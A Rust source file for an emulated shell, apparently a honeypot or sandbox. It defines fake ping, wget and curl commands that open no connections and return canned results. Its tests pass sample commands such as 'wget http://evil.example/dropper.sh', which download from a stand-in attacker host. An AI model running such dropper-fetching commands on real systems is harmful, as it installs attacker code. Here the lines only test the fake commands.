//! Network-shaped commands. Nothing here opens a socket; replies are
//! canned failures that look like a firewalled host.

use std::io;
use std::time::Duration;

use async_trait::async_trait;
use chrono::Local;
use rand::Rng;

use super::command_trait::{CmdIn, CmdOut, Command, EXIT_FAILURE, EXIT_OK};
use super::context::CommandContext;

pub struct PingCommand;

#[async_trait]
impl Command for PingCommand {
    fn name(&self) -> &'static str {
        "ping"
    }

    async fn run(
        &self,
        args: &[String],
        _input: &mut CmdIn,
        out: &mut CmdOut<'_>,
        _ctx: &CommandContext,
    ) -> io::Result<i32> {
        let Some(target) = args.get(1) else {
            out.println("ping: usage error: Destination address required")
                .await?;
            return Ok(EXIT_FAILURE);
        };
        let ip = "1.2.3.4";
        out.println(&format!("PING {target} ({ip}) 56(84) bytes of data."))
            .await?;
        for seq in 1..=4 {
            tokio::time::sleep(Duration::from_millis(100)).await;
            let rtt = 20.0 + rand::rng().random_range(0.0..10.0);
            out.println(&format!(
                "64 bytes from {ip}: icmp_seq={seq} ttl=53 time={rtt:.1} ms"
            ))
            .await?;
        }
        out.println("").await?;
        out.println(&format!("--- {target} ping statistics ---")).await?;
        out.println("4 packets transmitted, 4 received, 0% packet loss, time 3004ms")
            .await?;
        out.println("rtt min/avg/max/mdev = 20.1/25.2/30.5/3.1 ms").await?;
        Ok(EXIT_OK)
    }
}

pub struct WgetCommand;

#[async_trait]
impl Command for WgetCommand {
    fn name(&self) -> &'static str {
        "wget"
    }

    async fn run(
        &self,
        args: &[String],
        _input: &mut CmdIn,
        out: &mut CmdOut<'_>,
        _ctx: &CommandContext,
    ) -> io::Result<i32> {
        if args.len() < 2 {
            out.println("wget: try 'help'").await?;
            return Ok(EXIT_FAILURE);
        }
        let url = args.last().map(String::as_str).unwrap_or_default();
        let host = url.split('/').nth(2).unwrap_or(url);
        out.println(&format!(
            "--{}--  {url}",
            Local::now().format("%Y-%m-%d %H:%M:%S")
        ))
        .await?;
        out.println(&format!("Resolving {host}... 127.0.0.1")).await?;
        out.println("Connecting to 127.0.0.1... connected.").await?;
        out.println("HTTP request sent, awaiting response... 404 Not Found")
            .await?;
        out.println("2023-01-01 12:00:00 ERROR 404: Not Found.").await?;
        Ok(EXIT_FAILURE)
    }
}

pub struct CurlCommand;

#[async_trait]
impl Command for CurlCommand {
    fn name(&self) -> &'static str {
        "curl"
    }

    async fn run(
        &self,
        args: &[String],
        _input: &mut CmdIn,
        out: &mut CmdOut<'_>,
        _ctx: &CommandContext,
    ) -> io::Result<i32> {
        if args.len() < 2 {
            out.println("curl: try 'help'").await?;
            return Ok(EXIT_FAILURE);
        }
        let url = args.last().map(String::as_str).unwrap_or_default();
        out.println(&format!("curl: (6) Could not resolve host: {url}"))
            .await?;
        Ok(EXIT_FAILURE)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::shell::pipeline::test_support::{plain_ctx, run_line};

    #[tokio::test]
    async fn test_ping_requires_target() {
        let ctx = plain_ctx();
        let (out, code) = run_line("ping", &ctx).await;
        assert_eq!(code, EXIT_FAILURE);
        assert!(out.contains("Destination address required"));
    }

    #[tokio::test(start_paused = true)]
    async fn test_ping_four_replies_and_stats() {
        let ctx = plain_ctx();
        let (out, code) = run_line("ping example.com", &ctx).await;
        assert_eq!(code, EXIT_OK);
        assert_eq!(out.matches("icmp_seq=").count(), 4);
        assert!(out.contains("--- example.com ping statistics ---"));
    }

    #[tokio::test]
    async fn test_wget_names_the_host() {
        let ctx = plain_ctx();
        let (out, code) = run_line("wget http://evil.example/dropper.sh", &ctx).await;
        assert_eq!(code, EXIT_FAILURE);
        assert!(out.contains("Resolving evil.example... 127.0.0.1"));
        assert!(out.contains("404 Not Found"));
    }

    #[tokio::test]
    async fn test_curl_refuses() {
        let ctx = plain_ctx();
        let (out, code) = run_line("curl http://evil.example/x", &ctx).await;
        assert_eq!(code, EXIT_FAILURE);
        assert!(out.contains("Could not resolve host"));
    }
}
